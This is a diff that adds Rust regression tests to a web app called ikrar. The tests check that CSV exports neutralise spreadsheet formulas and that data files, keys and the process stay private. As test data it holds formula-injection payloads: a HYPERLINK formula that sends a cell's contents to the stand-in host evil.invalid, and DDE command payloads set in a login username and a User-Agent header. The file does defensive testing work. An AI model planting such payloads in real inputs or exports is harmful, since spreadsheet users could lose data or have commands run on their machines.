@@ -1,0 +1,199 @@
+//! Regression tests for what an attack on ikrar found (issue 10): each fails without its fix.
+
+mod common;
+
+use common::*;
+
+/// Every cell of a CSV text, parsed.
+fn cells(csv_text: &str) -> Vec<String> {
+    let text = csv_text.strip_prefix('\u{feff}').unwrap_or(csv_text);
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(text.as_bytes());
+    reader
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+        .collect()
+}
+
+/// Asserts that no cell of `csv_text` would run as a spreadsheet formula, and that `expected`
+/// shows up as neutralised text.
+fn no_formula(what: &str, csv_text: &str, expected: &str) {
+    let all = cells(csv_text);
+    for cell in &all {
+        assert!(
+            cell == "-" || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{what}: a cell would run as a formula: {cell:?}\n{csv_text}"
+        );
+    }
+    assert!(
+        all.iter().any(|c| c == &format!("'{expected}")),
+        "{what}: {expected:?} not found neutralised\n{csv_text}"
+    );
+}
+
+const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.invalid/?\"&B2,\"klik\")";
+
+#[tokio::test]
+async fn no_csv_the_project_writes_carries_a_formula() {
+    let app = TestApp::spawn().await;
+    let roster = format!(
+        "{ROSTER_HEADER}199004152019032004,{},PNS,-Perawat,DINKES,+Dinas Kesehatan,@Pemkab\n\
+         =1+1,Budi,PPPK,Guru,DINKES,+Dinas Kesehatan,@Pemkab\n",
+        csv_quote(FORMULA_NAME)
+    );
+    let dir = app.dir.path();
+    let (file, codes, report) = (
+        dir.join("roster.csv"),
+        dir.join("codes.csv"),
+        dir.join("report.csv"),
+    );
+    std::fs::write(&file, roster).unwrap();
+    let out = app.ikrar(&[
+        "roster",
+        "import",
+        file.to_str().unwrap(),
+        "--skip-invalid",
+        "--codes-out",
+        codes.to_str().unwrap(),
+        "--report",
+        report.to_str().unwrap(),
+    ]);
+    assert!(out.status.success(), "{}", text(&out));
+    no_formula(
+        "--codes-out",
+        &std::fs::read_to_string(&codes).unwrap(),
+        FORMULA_NAME,
+    );
+    no_formula(
+        "--report",
+        &std::fs::read_to_string(&report).unwrap(),
+        "=1+1",
+    );
+
+    create_admin(&app, "bkpsdm", "superadmin", None);
+    // A failed sign-in writes what an outsider typed into the audit trail.
+    let outsider = app.browser();
+    let token = app.csrf(&outsider, "/admin/masuk").await;
+    outsider
+        .post(app.url("/admin/masuk"))
+        .header("User-Agent", "@SUM(1+1)*cmd|' /C calc'!A0")
+        .form(&[
+            ("username", "=cmd|' /C calc'!A0"),
+            ("password", "salah"),
+            ("csrf_token", &token),
+        ])
+        .send()
+        .await
+        .unwrap();
+
+    let admin = signed_in(&app, "bkpsdm").await;
+    let pact = "/admin/pakta/netralitas-2024";
+    let rekap = app
+        .page(&admin, &format!("{pact}/laporan?per=unit&format=csv"))
+        .await;
+    no_formula("rekap", &rekap, "+Dinas Kesehatan");
+    let daftar = app
+        .page(&admin, &format!("{pact}/laporan?per=pegawai&format=csv"))
+        .await;
+    no_formula("daftar", &daftar, FORMULA_NAME);
+    let token = app.csrf(&admin, "/admin/masuk").await;
+    let web_codes = admin
+        .post(app.url("/admin/unit/DINKES/kode"))
+        .form(&[("csrf_token", token.as_str()), ("format", "csv")])
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    no_formula("kode aktivasi", &web_codes, FORMULA_NAME);
+    let audit = app.page(&admin, "/admin/audit?format=csv").await;
+    no_formula("audit", &audit, "=cmd|' /c calc'!a0");
+    no_formula("audit", &audit, "@SUM(1+1)*cmd|' /C calc'!A0");
+}
+
+/// `text` as one CSV field.
+fn csv_quote(text: &str) -> String {
+    format!("\"{}\"", text.replace('"', "\"\""))
+}
+
+fn mode(path: &std::path::Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::metadata(path)
+        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
+        .permissions()
+        .mode()
+        & 0o777
+}
+
+#[tokio::test]
+async fn the_server_and_every_file_it_writes_are_private() {
+    let root = tempfile::tempdir().unwrap();
+    let data = DataDir::new();
+    let port = free_port();
+    let mut server = serve_process(&data, port);
+    let base = format!("http://127.0.0.1:{port}");
+    wait_until_up(&base).await;
+    // No core dump can be written: RLIMIT_CORE is 0 for the running server.
+    let limits = std::fs::read_to_string(format!("/proc/{}/limits", server.id())).unwrap();
+    let core = limits
+        .lines()
+        .find(|l| l.starts_with("Max core file size"))
+        .unwrap();
+    assert_eq!(
+        core.split_whitespace().collect::<Vec<_>>()[4..6],
+        ["0", "0"],
+        "{core}"
+    );
+    let dir = data.path();
+    assert_eq!(mode(dir), 0o700, "data directory");
+    assert_eq!(mode(&dir.join("log-key.pem")), 0o600);
+    if !data.is_postgres() {
+        for file in ["ikrar.db", "ikrar.db-wal", "ikrar.db-shm"] {
+            assert_eq!(mode(&dir.join(file)), 0o600, "{file}");
+        }
+    }
+    server.kill().unwrap();
+    server.wait().unwrap();
+
+    let out_dir = root.path();
+    let (bundle, report, backup) = (
+        out_dir.join("bundle.jsonl"),
+        out_dir.join("rekap.xlsx"),
+        out_dir.join("cadangan.db"),
+    );
+    let mut commands = vec![
+        vec!["export", "bundle", bundle.to_str().unwrap()],
+        vec![
+            "export",
+            "report",
+            report.to_str().unwrap(),
+            "--pact",
+            "netralitas-2024",
+        ],
+    ];
+    if !data.is_postgres() {
+        commands.push(vec!["backup", backup.to_str().unwrap()]);
+    }
+    for args in &commands {
+        let out = ikrar_in(&data, args);
+        assert!(out.status.success(), "{args:?}: {}", text(&out));
+        let written = args.iter().find(|a| a.starts_with('/')).unwrap();
+        assert_eq!(mode(std::path::Path::new(written)), 0o600, "{args:?}");
+    }
+}
+
+#[test]
+fn hardening_makes_the_process_undumpable() {
+    use rustix::process::{dumpable_behavior, getrlimit, DumpableBehavior, Resource};
+    ikrar::hardening::harden().unwrap();
+    assert_eq!(dumpable_behavior().unwrap(), DumpableBehavior::NotDumpable);
+    let core = getrlimit(Resource::Core);
+    assert_eq!((core.current, core.maximum), (Some(0), Some(0)));
+    let probe = tempfile::tempdir().unwrap();
+    let file = probe.path().join("baru");
+    std::fs::write(&file, "x").unwrap();
+    assert_eq!(mode(&file), 0o600, "umask 077");
+}
